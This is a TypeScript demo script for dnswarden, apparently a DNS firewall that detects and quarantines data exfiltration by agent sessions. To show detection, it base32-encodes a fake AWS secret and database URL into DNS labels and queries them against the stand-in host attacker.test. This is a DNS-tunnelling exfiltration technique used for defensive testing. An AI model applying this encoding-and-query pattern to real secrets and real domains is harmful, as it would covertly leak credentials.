// `npm run demo`: dnswarden on its embedded defaults (policy, scoring, thresholds) with a temp store, on
// ephemeral loopback ports so it never collides with a running `npm start`, in front of a tiny
// authoritative server this file starts on 127.0.0.1. It plays a benign agent session, then an
// exfiltration attempt from a batch session, and prints the answers, the block with its EDE text, the
// quarantine with its evidence (from the admin API, as an analyst sees it) and where to look next.
// Ends by itself and removes what it created. Talks DNS with a few hand-encoded packets: only wire.ts
// may use the codec library, and a demo client should not share the server's codec anyway.
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startApp, type App } from '../src/app.js';
import { parseConfig } from '../src/ops/config.js';
import { messageOf } from '../src/errors.js';

// --- terminal output: aligned columns; colour only on a TTY (and never with NO_COLOR)

const useColour = process.stdout.isTTY === true && process.env['NO_COLOR'] === undefined;
const paint = (code: string) => (s: string): string => (useColour ? `\x1b[${code}m${s}\x1b[0m` : s);
const bold = paint('1');
const dim = paint('2');
const red = paint('31');
const green = paint('32');
const yellow = paint('33');
const cyan = paint('36');
const say = (line = ''): void => void process.stdout.write(`${line}\n`);

/** Pads to `width` visible characters (colour codes do not count). */
function pad(s: string, width: number): string {
  // eslint-disable-next-line no-control-regex
  const visible = s.replace(/\x1b\[\d+m/g, '').length;
  return visible >= width ? s : s + ' '.repeat(width - visible);
}

/** A long exfiltration name shown as `abcdefghijkl…(63).attacker.test` so a row stays on one line. */
function shortName(name: string): string {
  const [first, ...rest] = name.split('.');
  if (first === undefined || first.length <= 24) return name;
  return `${first.slice(0, 12)}…(${first.length}).${rest.join('.')}`;
}

// --- DNS on the wire, by hand (RFC 1035 §4.1; EDNS0 OPT RFC 6891; EDE RFC 8914)

const TYPE = { A: 1, TXT: 16, OPT: 41 } as const;
type QType = keyof Omit<typeof TYPE, 'OPT'>;
const RCODES = ['NOERROR', 'FORMERR', 'SERVFAIL', 'NXDOMAIN', 'NOTIMP', 'REFUSED'];
const EDE_NAMES: Readonly<Record<number, string>> = { 15: 'Blocked', 17: 'Filtered', 18: 'Prohibited', 21: 'Not Supported', 22: 'No Reachable Authority', 23: 'Network Error' };

function encodeName(name: string): Buffer {
  const parts = name.split('.').filter((l) => l !== '');
  return Buffer.concat([...parts.map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, 'ascii')])), Buffer.from([0])]);
}

/** Offset just past the (possibly compressed) name at `offset`. */
function skipName(buf: Buffer, offset: number): number {
  for (let i = 0; i < 128; i++) {
    const len = buf[offset];
    if (len === undefined) throw new Error('name runs past the packet');
    if (len === 0) return offset + 1;
    if ((len & 0xc0) === 0xc0) return offset + 2;
    offset += 1 + len;
  }
  throw new Error('name too long');
}

/** The question's name (lower case, no trailing dot) and the offset past QTYPE/QCLASS. */
function readQuestion(buf: Buffer): { name: string; type: number; end: number } {
  const labels: string[] = [];
  let offset = 12;
  for (let i = 0; i < 128; i++) {
    const len = buf[offset];
    if (len === undefined || len > 63) throw new Error('bad question name');
    offset += 1;
    if (len === 0) break;
    labels.push(buf.toString('ascii', offset, offset + len).toLowerCase());
    offset += len;
  }
  return { name: labels.join('.'), type: buf.readUInt16BE(offset), end: offset + 4 };
}

function encodeQuery(id: number, name: string, type: number): Buffer {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(id, 0);
  header.writeUInt16BE(0x0100, 2); // RD
  header.writeUInt16BE(1, 4); // QDCOUNT
  header.writeUInt16BE(1, 10); // ARCOUNT: our OPT, so the reply may carry an EDE
  const question = Buffer.alloc(4);
  question.writeUInt16BE(type, 0);
  question.writeUInt16BE(1, 2); // IN
  const opt = Buffer.from([0, 0, TYPE.OPT, 0x04, 0xd0, 0, 0, 0, 0, 0, 0]); // root, OPT, 1232 bytes, no flags, no options
  return Buffer.concat([header, encodeName(name), question, opt]);
}

interface Answer {
  readonly rcode: string;
  readonly data: string[];
  readonly ede: { code: number; text: string } | undefined;
}

function decodeReply(buf: Buffer): Answer {
  const flags = buf.readUInt16BE(2);
  const [qd, an, ns, ar] = [buf.readUInt16BE(4), buf.readUInt16BE(6), buf.readUInt16BE(8), buf.readUInt16BE(10)];
  let offset = 12;
  for (let i = 0; i < qd; i++) offset = skipName(buf, offset) + 4;
  const data: string[] = [];
  let ede: Answer['ede'];
  for (let i = 0; i < an + ns + ar; i++) {
    offset = skipName(buf, offset);
    const type = buf.readUInt16BE(offset);
    const rdLength = buf.readUInt16BE(offset + 8);
    const rd = buf.subarray(offset + 10, offset + 10 + rdLength);
    offset += 10 + rdLength;
    if (i < an && type === TYPE.A && rd.length === 4) data.push(rd.join('.'));
    if (i < an && type === TYPE.TXT) {
      const strings: string[] = [];
      for (let p = 0; p < rd.length; p += 1 + rd[p]!) strings.push(rd.toString('utf8', p + 1, p + 1 + rd[p]!));
      data.push(`"${strings.join('')}"`);
    }
    if (type === TYPE.OPT) {
      for (let p = 0; p + 4 <= rd.length; p += 4 + rd.readUInt16BE(p + 2)) {
        if (rd.readUInt16BE(p) === 15 && ede === undefined) ede = { code: rd.readUInt16BE(p + 4), text: rd.toString('utf8', p + 6, p + 4 + rd.readUInt16BE(p + 2)) };
      }
    }
  }
  return { rcode: RCODES[flags & 0x0f] ?? `RCODE${flags & 0x0f}`, data, ede };
}

/** One UDP query from `bind` (a loopback source address), bounded by `timeoutMs`. */
function ask(server: { address: string; port: number }, bind: string, name: string, type: QType, timeoutMs = 3000): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const socket = createSocket('udp4');
    const id = randomBytes(2).readUInt16BE(0);
    const timer = setTimeout(() => finish(new Error(`no answer for ${name} within ${timeoutMs} ms`)), timeoutMs);
    function finish(err: Error | undefined, answer?: Answer): void {
      clearTimeout(timer);
      socket.close();
      if (err !== undefined) reject(err);
      else resolve(answer!);
    }
    socket.on('error', (err) => finish(err));
    socket.on('message', (msg) => {
      if (msg.length < 12 || msg.readUInt16BE(0) !== id) return;
      try {
        finish(undefined, decodeReply(msg));
      } catch (err) {
        finish(new Error(`undecodable reply for ${name}: ${messageOf(err)}`));
      }
    });
    socket.bind(0, bind, () => socket.send(encodeQuery(id, name, TYPE[type]), server.port, server.address));
  });
}

// --- the demo's authoritative upstream: demo.test (the agent's normal work) and attacker.test (the
// attacker's nameserver, which answers anything: receiving the query is the point of the channel)

const DEMO_A: Readonly<Record<string, string>> = {
  'www.demo.test': '192.0.2.10',
  'api.demo.test': '192.0.2.11',
  'pkg.demo.test': '192.0.2.12',
  'docs.demo.test': '192.0.2.13',
};
const DEMO_TXT: Readonly<Record<string, string>> = { '_config.demo.test': 'feature_flags=on; region=eu-1' };

interface DemoUpstream {
  readonly address: string;
  readonly port: number;
  /** Queries for attacker.test that reached the "attacker's nameserver". */
  readonly attackerQueries: number;
  close(): Promise<void>;
}

function answerRecord(type: number, rdata: Buffer): Buffer {
  const rr = Buffer.alloc(12);
  rr.writeUInt16BE(0xc00c, 0); // owner: pointer to the question name
  rr.writeUInt16BE(type, 2);
  rr.writeUInt16BE(1, 4); // IN
  rr.writeUInt32BE(60, 6); // TTL
  rr.writeUInt16BE(rdata.length, 10);
  return Buffer.concat([rr, rdata]);
}

function txtRdata(text: string): Buffer {
  const bytes = Buffer.from(text, 'utf8').subarray(0, 255);
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

async function startDemoUpstream(): Promise<DemoUpstream> {
  const socket: Socket = createSocket('udp4');
  let attackerQueries = 0;
  socket.on('message', (msg, peer) => {
    let q: { name: string; type: number; end: number };
    try {
      q = readQuestion(msg);
    } catch {
      return; // not a query we can read: silence, as an authority would
    }
    const answers: Buffer[] = [];
    let rcode = 0;
    if (q.name === 'attacker.test' || q.name.endsWith('.attacker.test')) {
      attackerQueries++;
      if (q.type === TYPE.TXT) answers.push(answerRecord(TYPE.TXT, txtRdata('ack')));
    } else if (q.name === 'demo.test' || q.name.endsWith('.demo.test')) {
      const a = DEMO_A[q.name];
      const txt = DEMO_TXT[q.name];
      if (a !== undefined && q.type === TYPE.A) answers.push(answerRecord(TYPE.A, Buffer.from(a.split('.').map(Number))));
      else if (txt !== undefined && q.type === TYPE.TXT) answers.push(answerRecord(TYPE.TXT, txtRdata(txt)));
      else if (a === undefined && txt === undefined) rcode = 3; // NXDOMAIN
    } else {
      rcode = 5; // REFUSED: not our zones
    }
    const header = Buffer.alloc(12);
    header.writeUInt16BE(msg.readUInt16BE(0), 0);
    header.writeUInt16BE(0x8400 | (msg.readUInt16BE(2) & 0x0100) | rcode, 2); // QR, AA, RD copied
    header.writeUInt16BE(1, 4);
    header.writeUInt16BE(answers.length, 6);
    socket.send(Buffer.concat([header, msg.subarray(12, q.end), ...answers]), peer.port, peer.address);
  });
  await new Promise<void>((resolve, reject) => {
    socket.once('error', reject);
    socket.bind(0, '127.0.0.1', () => resolve());
  });
  return {
    address: '127.0.0.1',
    port: socket.address().port,
    get attackerQueries() {
      return attackerQueries;
    },
    close: () => new Promise<void>((resolve) => socket.close(() => resolve())),
  };
}

// --- the exfiltration payload: a fake secret, base32 (RFC 4648, lower case, unpadded), 63-character labels

const FAKE_SECRET = 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYDEMOKEY01\nDATABASE_URL=postgres://etl:hunter2-demo-only@db.internal:5432/warehouse\n';

function base32(bytes: Buffer): string {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
  let out = '';
  let bits = 0;
  let value = 0;
  for (const byte of bytes) {
    value = (value << 8) | byte;
    bits += 8;
    while (bits >= 5) {
      out += alphabet[(value >>> (bits - 5)) & 31];
      bits -= 5;
    }
  }
  if (bits > 0) out += alphabet[(value << (5 - bits)) & 31];
  return out;
}

function exfilNames(): string[] {
  const encoded = base32(Buffer.from(FAKE_SECRET, 'utf8'));
  const names: string[] = [];
  for (let i = 0; i + 63 <= encoded.length; i += 63) names.push(`${encoded.slice(i, i + 63)}.attacker.test`);
  return names;
}

// --- the demo

const AGENT = { id: 'local', address: '127.0.0.1' };
const EXFIL = { id: 'nightly-etl', address: '127.0.0.2', user: 'etl-bot', role: 'data-pipeline' };

function row(type: string, name: string, a: Answer): string {
  const status = a.rcode === 'NOERROR' ? green(a.rcode) : red(a.rcode);
  const detail = a.ede !== undefined ? `${red(`EDE ${a.ede.code} (${EDE_NAMES[a.ede.code] ?? '?'})`)}: ${a.ede.text}` : a.data.length > 0 ? a.data.join(', ') : dim('(no records)');
  return `  ${pad(type, 4)} ${pad(shortName(name), 40)} ${pad(status, 9)} ${detail}`;
}

interface Evidence {
  quarantine: {
    id: string; state: string; raised_at: string;
    session: { id: string; user: string; role: string; type: string; addresses: string[] };
    evidence: {
      trigger: { name: string; rule: string; reason: string; score?: number; signals?: { id: string; value: number; weight: number; reason: string }[] };
      recent: { atMs: number; name: string; action: string; rule: string; score?: number }[];
    };
  };
  attacker_domains: string[];
}

async function adminGet(app: App, path: string): Promise<{ status: number; text: string }> {
  const res = await fetch(`${app.adminUrl}${path}`, { headers: { authorization: `Bearer ${app.adminToken}` }, signal: AbortSignal.timeout(5000) });
  return { status: res.status, text: await res.text() };
}

async function play(app: App, upstream: DemoUpstream): Promise<boolean> {
  const listener = app.dns[0]!;
  const dns = { address: listener.address, port: listener.port };

  say(bold('dnswarden demo: a benign agent session, then an exfiltration attempt'));
  say(dim(`  dnswarden  DNS ${dns.address}:${dns.port}, admin ${app.adminUrl} (embedded defaults, temp store, ephemeral ports)`));
  say(dim(`  upstream   ${upstream.address}:${upstream.port}, a tiny authoritative server for demo.test and attacker.test`));
  say();

  say(yellow(`1. Session "${AGENT.id}" (interactive, ${AGENT.address}) does ordinary work`));
  const benign: [QType, string][] = [['A', 'www.demo.test'], ['A', 'api.demo.test'], ['A', 'pkg.demo.test'], ['TXT', '_config.demo.test'], ['A', 'docs.demo.test'], ['A', 'www.demo.test']];
  for (const [type, name] of benign) say(row(type, name, await ask(dns, AGENT.address, name, type)));
  say(dim('  every ordinary name is answered (the repeated one from the cache)'));
  say();

  say(yellow(`2. Session "${EXFIL.id}" (batch, ${EXFIL.address}) sends a secret out, base32-encoded in 63-character labels`));
  let quarantineId: string | undefined;
  let blockSeen = false;
  for (const name of exfilNames()) {
    const a = await ask(dns, EXFIL.address, name, 'TXT');
    say(row('TXT', name, a));
    if (a.ede?.code === 15 && !a.ede.text.startsWith('session quarantined')) blockSeen = true;
    const m = /^session quarantined \((qr-[^)]+)\)/.exec(a.ede?.text ?? '');
    if (m !== null) {
      quarantineId = m[1]!;
      break;
    }
  }
  if (quarantineId === undefined) {
    say(red('  the session was not quarantined: this demo expected it to be (has the policy changed?)'));
    return false;
  }
  say(row('A', 'www.demo.test', await ask(dns, EXFIL.address, 'www.demo.test', 'A')) + dim('   ← quarantined: nothing is answered'));
  say(row('A', 'www.demo.test', await ask(dns, AGENT.address, 'www.demo.test', 'A')) + dim(`   ← from "${AGENT.id}": other sessions carry on`));
  say(dim(`  ${blockSeen ? 'blocked (EDE 15 names the rule, score and top signals), then ' : ''}quarantined; the attacker's nameserver received ${upstream.attackerQueries} of these queries`));
  say();

  say(yellow(`3. The quarantine with its evidence, as an analyst sees it (GET /v1/quarantines/${quarantineId})`));
  const res = await adminGet(app, `/v1/quarantines/${encodeURIComponent(quarantineId)}`);
  if (res.status !== 200) {
    say(red(`  the admin API answered ${res.status}: ${res.text}`));
    return false;
  }
  const ev = JSON.parse(res.text) as Evidence;
  const q = ev.quarantine;
  const t = q.evidence.trigger;
  const field = (k: string, v: string): void => say(`  ${pad(dim(k), 10)} ${v}`);
  field('id', bold(q.id));
  field('state', red(q.state));
  field('raised', q.raised_at);
  field('session', `${q.session.id}  user ${q.session.user}  role ${q.session.role}  type ${q.session.type}  ${q.session.addresses.join(', ')}`);
  field('trigger', shortName(t.name));
  field('rule', `${t.rule}: ${t.reason}`);
  if (t.score !== undefined) field('score', t.score.toFixed(2));
  field('domains', ev.attacker_domains.join(', ') || '-');
  say(`  ${dim('signals')}`);
  say(dim(`    ${pad('SIGNAL', 14)} ${pad('VALUE', 6)} ${pad('WEIGHT', 7)} REASON`));
  for (const s of t.signals ?? []) say(`    ${pad(s.id, 14)} ${pad(s.value.toFixed(2), 6)} ${pad(s.weight.toFixed(2), 7)} ${s.reason}`);
  say(`  ${dim('recent queries of the session (oldest first)')}`);
  say(dim(`    ${pad('TIME', 12)} ${pad('ACTION', 10)} ${pad('RULE', 12)} ${pad('SCORE', 5)} NAME`));
  for (const e of q.evidence.recent) say(`    ${pad(new Date(e.atMs).toISOString().slice(11, 23), 12)} ${pad(e.action, 10)} ${pad(e.rule, 12)} ${pad(e.score?.toFixed(2) ?? '', 5)} ${shortName(e.name)}`);
  say();

  say(yellow('4. What /metrics counted'));
  const metrics = await adminGet(app, '/metrics');
  const shown = metrics.text.split('\n').filter((l) => /^dnswarden_(verdicts_total\{action="(nxdomain|quarantine)"|quarantines_raised_total|sessions_quarantined |cache_hits_total |cache_misses_total )/.test(l));
  for (const l of shown) say(`  ${l}`);
  say();

  say(yellow('Where to look next'));
  const cli = 'node dist/src/cli.js';
  say(`  ${pad('run it', 12)} npm start   ${dim('(DNS 127.0.0.1:5353, admin http://127.0.0.1:9153; token in data/admin-token)')}`);
  say(`  ${pad('analyst', 12)} ${cyan(`${cli} quarantine list --state open`)}`);
  say(`  ${pad('', 12)} ${cyan(`${cli} quarantine show <id>`)}     ${dim(`(here: ${q.id})`)}`);
  say(`  ${pad('', 12)} ${cyan(`${cli} quarantine release <id> --reason "…"`)}  ${dim('or')}  ${cyan('confirm <id> --reason "…" --deny')}`);
  say(`  ${pad('metrics', 12)} ${cyan('curl -s -H "Authorization: Bearer $(cat data/admin-token)" http://127.0.0.1:9153/metrics')}`);
  say(`  ${pad('dashboards', 12)} deploy/grafana/dashboard.json, deploy/prometheus/alerts.yml`);
  say(`  ${pad('tuning', 12)} ${cyan(`${cli} replay fixtures/replay/small.jsonl`)}`);
  say(dim(`  (this demo's server at ${app.adminUrl} has stopped and its temp store is removed)`));
  return true;
}

async function main(): Promise<void> {
  const storageDir = mkdtempSync(join(tmpdir(), 'dnswarden-demo-'));
  let upstream: DemoUpstream | undefined;
  let app: App | undefined;
  try {
    upstream = await startDemoUpstream();
    app = await startApp(parseConfig({
      listen: { dns: ['127.0.0.1:0'], admin: '127.0.0.1:0' },
      admin: { token: randomBytes(24).toString('base64url') },
      storage: { dir: storageDir },
      upstreams: [{ address: `${upstream.address}:${upstream.port}` }],
      sessions: {
        static: [
          { id: AGENT.id, addresses: [`${AGENT.address}/32`], type: 'interactive', user: 'local', role: 'developer' },
          { id: EXFIL.id, addresses: [`${EXFIL.address}/32`], type: 'batch', user: EXFIL.user, role: EXFIL.role },
        ],
      },
      logging: { level: 'silent' },
    }));
    const ok = await play(app, upstream);
    if (!ok) process.exitCode = 1;
  } catch (err) {
    process.stderr.write(`dnswarden demo: ${messageOf(err)}\n`);
    process.exitCode = 1;
  } finally {
    await app?.close();
    await upstream?.close();
    rmSync(storageDir, { recursive: true, force: true });
  }
}

await main();
